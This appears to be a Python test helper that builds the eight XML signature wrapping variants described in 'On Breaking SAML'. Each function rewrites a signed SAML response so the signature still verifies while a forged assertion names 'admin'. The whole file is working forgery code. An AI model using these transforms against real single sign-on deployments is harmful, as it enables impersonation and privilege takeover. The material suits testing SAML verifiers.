"""XML signature wrapping: the eight shapes of Somorovsky and others ("On Breaking SAML", 2012), made of honest answers.

Each leaves the signed bytes somewhere in the document and puts `admin` where a careless reader looks. It is all done to
the text, so that what was signed stays signed byte for byte.
"""

from __future__ import annotations

import re

SIGNATURE = re.compile(r"<ds:Signature .*?</ds:Signature>", re.DOTALL)
ASSERTION = re.compile(r"<saml:Assertion .*?</saml:Assertion>", re.DOTALL)
ISSUER_END = re.compile(r"<saml:Issuer[^>]*>[^<]*</saml:Issuer>")


def _assertion(xml: str) -> str:
    found = ASSERTION.search(xml)
    assert found
    return found.group()


def _signature(xml: str) -> str:
    """The first one's text; empty where there is none."""
    found = SIGNATURE.search(xml)
    return found.group() if found else ""


def _bare(xml: str) -> str:
    """Without its own signature, which is the first."""
    return SIGNATURE.sub("", xml, count=1)


def _evil(xml: str) -> str:
    """Another id, and another person."""
    return re.sub(r' ID="[^"]+"', ' ID="_evil"', xml, count=1).replace("alice", "admin")


def _signed_as(xml: str, signature: str) -> str:
    """With this signature where one belongs: after the first Issuer."""
    return ISSUER_END.sub(lambda issuer: issuer.group() + signature, xml, count=1)


def _within(signature: str, inner: str) -> str:
    return signature.removesuffix("</ds:Signature>") + inner + "</ds:Signature>"


def _response_signature(xml: str) -> str:
    return _signature(ASSERTION.sub("", xml)) or _signature(xml)


def _evil_response(xml: str, inside: str) -> str:
    outside = xml.replace(_response_signature(xml), "", 1)
    return _signed_as(_evil(outside), inside)


def one(xml: str) -> str:
    original = xml.replace(_response_signature(xml), "", 1)
    return _evil_response(xml, _within(_response_signature(xml), original))


def two(xml: str) -> str:
    original = xml.replace(_response_signature(xml), "", 1)
    return _evil_response(xml, original + _response_signature(xml))


def three(xml: str) -> str:
    honest = _assertion(xml)
    return xml.replace(honest, _evil(_bare(honest)) + honest)


def four(xml: str) -> str:
    honest = _assertion(xml)
    evil = _evil(_bare(honest)).removesuffix("</saml:Assertion>")
    return xml.replace(honest, f"{evil}{honest}</saml:Assertion>")


def five(xml: str) -> str:
    honest = _assertion(xml)
    evil = _signed_as(_evil(_bare(honest)), _signature(honest))
    return xml.replace(honest, evil).replace("</samlp:Response>", f"{_bare(honest)}</samlp:Response>")


def six(xml: str) -> str:
    honest = _assertion(xml)
    return xml.replace(honest, _signed_as(_evil(_bare(honest)), _within(_signature(honest), _bare(honest))))


def seven(xml: str) -> str:
    honest = _assertion(xml)
    return xml.replace(honest, f"<samlp:Extensions>{_evil(_bare(honest))}</samlp:Extensions>{honest}")


def eight(xml: str) -> str:
    honest = _assertion(xml)
    box = f"<ds:Object>{_bare(honest)}</ds:Object>"
    return xml.replace(honest, _signed_as(_evil(_bare(honest)), _within(_signature(honest), box)))


SHAPES = {shape.__name__: shape for shape in (one, two, three, four, five, six, seven, eight)}
OF_ASSERTIONS = {name: SHAPES[name] for name in ("three", "four", "five", "six", "seven", "eight")}
